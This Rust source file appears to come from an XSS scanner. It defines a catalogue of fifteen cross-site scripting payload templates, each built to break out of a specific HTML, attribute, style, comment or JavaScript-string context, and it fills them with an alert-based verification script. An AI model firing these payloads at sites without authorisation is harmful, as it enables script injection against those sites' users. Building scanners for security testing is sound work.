use crate::core::ContextKind;
use crate::core::ContextKind::*;

pub const JAVASCRIPT_PLACEHOLDER: &str = "{JAVASCRIPT}";
pub const TRIGGER_VALUE_PLACEHOLDER: &str = "{TRIGGERVAL}";

/// Script every payload runs to prove execution; the trigger is filled in per attack.
pub const VERIFY_SCRIPT: &str = "alert({TRIGGERVAL})";

/// An attack template tagged with the contexts it is built to escape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Payload {
    pub id: u32,
    pub contexts: &'static [ContextKind],
    pub template: &'static str,
}

impl Payload {
    /// Matches `context`, or anything at all for the `general` wildcard.
    pub fn matches(&self, context: ContextKind) -> bool {
        context == ContextKind::General || self.contexts.contains(&context)
    }

    /// Builds the attack string for one verification trigger.
    pub fn attack(&self, trigger: &str) -> String {
        self.template
            .replace(JAVASCRIPT_PLACEHOLDER, VERIFY_SCRIPT)
            .replace(TRIGGER_VALUE_PLACEHOLDER, trigger)
    }
}

pub const XSSMAP_PAYLOADS: [Payload; 15] = [
    Payload { id: 1, contexts: &[NodeName], template: "script>{JAVASCRIPT}//" },
    Payload { id: 2, contexts: &[NodeName], template: "b onmouseover={JAVASCRIPT} " },
    Payload { id: 3, contexts: &[AttributeName], template: "><script>{JAVASCRIPT};/*" },
    Payload { id: 4, contexts: &[AttributeName], template: "onmouseover={JAVASCRIPT} " },
    Payload { id: 5, contexts: &[Style], template: "</style><script>{JAVASCRIPT}</script><style>" },
    Payload {
        id: 6,
        contexts: &[AttributeValue, StyleAttrib, ClassAttrib],
        template: "'><script>{JAVASCRIPT}/*",
    },
    Payload {
        id: 7,
        contexts: &[AttributeValue, StyleAttrib, ClassAttrib],
        template: "'onmouseover='{JAVASCRIPT} ",
    },
    Payload { id: 8, contexts: &[Comment], template: "--><script>{JAVASCRIPT}</script><!--" },
    Payload { id: 9, contexts: &[Comment], template: "--><b onmouseover={JAVASCRIPT} >text</b><!--" },
    Payload { id: 10, contexts: &[JsSingleQuote], template: ";{JAVASCRIPT}//" },
    Payload { id: 11, contexts: &[JsSingleQuote], template: "'{JAVASCRIPT}//" },
    Payload { id: 12, contexts: &[JsDoubleQuote], template: "\";{JAVASCRIPT}//" },
    Payload { id: 13, contexts: &[JsDoubleQuote], template: "\"{JAVASCRIPT}//" },
    Payload {
        id: 14,
        contexts: &[JsSingleQuote, JsDoubleQuote],
        template: "</script><script>{JAVASCRIPT}</script><script>",
    },
    Payload { id: 15, contexts: &[JsNode], template: "{JAVASCRIPT}" },
];

/// Read-only payload registry, built once and shared by reference.
#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    payloads: Vec<Payload>,
}

impl PayloadCatalog {
    pub fn new(payloads: Vec<Payload>) -> Self {
        let mut payloads = payloads;
        payloads.sort_by_key(|p| p.id);
        Self { payloads }
    }

    pub fn builtin() -> Self {
        Self::new(XSSMAP_PAYLOADS.to_vec())
    }

    /// Every payload usable against `context`, in id order.
    pub fn payloads_for(&self, context: ContextKind) -> Vec<&Payload> {
        self.payloads.iter().filter(|p| p.matches(context)).collect()
    }

    pub fn get(&self, id: u32) -> Option<&Payload> {
        self.payloads.iter().find(|p| p.id == id)
    }

    pub fn iter(&self) -> impl Iterator<Item = &Payload> {
        self.payloads.iter()
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        Self::builtin()
    }
}
